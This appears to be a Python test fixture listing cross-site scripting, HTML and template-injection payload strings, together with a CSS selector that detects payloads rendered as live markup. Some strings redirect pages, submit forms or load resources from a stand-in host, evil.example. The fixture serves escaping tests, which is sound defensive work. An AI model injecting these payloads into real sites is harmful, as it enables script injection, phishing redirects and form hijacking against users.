"""Text that tries to be markup, a script, an address or a template."""

EVIL = "<img src=x onerror=alert(1)>"
PAYLOADS = (
    EVIL,
    "<script>alert(1)</script>",
    '"><svg onload=alert(1)>',
    "'><body onload=alert(1)>",
    "</title></textarea></pre></code><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    '" autofocus onfocus=alert(1) x="',
    "javascript:alert(1)",
    "<math><mtext></form><form action=//evil.example><button>",
    "<link rel=stylesheet href=//evil.example><base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<div hx-get=//evil.example hx-trigger=load hx-on:click=alert(1)>",
    "{{ 7 * 7 }}{% include 'x' %}${7*7}",
    "]]><!--<svg/onload=alert(1)>-->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
)
HOSTILE = " ".join(PAYLOADS)
"""All of them, where a string may be long."""
ACTIVE = (
    "main :is(iframe, object, embed, base, link, meta, style, script, img, body, math), "
    "main :is([onerror], [onload], [onfocus], [onclick]), main svg svg, "
    "a[href^='javascript' i], [hx-get*='evil'], form[action*='evil']"
)
"""Selects what no page has, and what a string that became markup would be."""
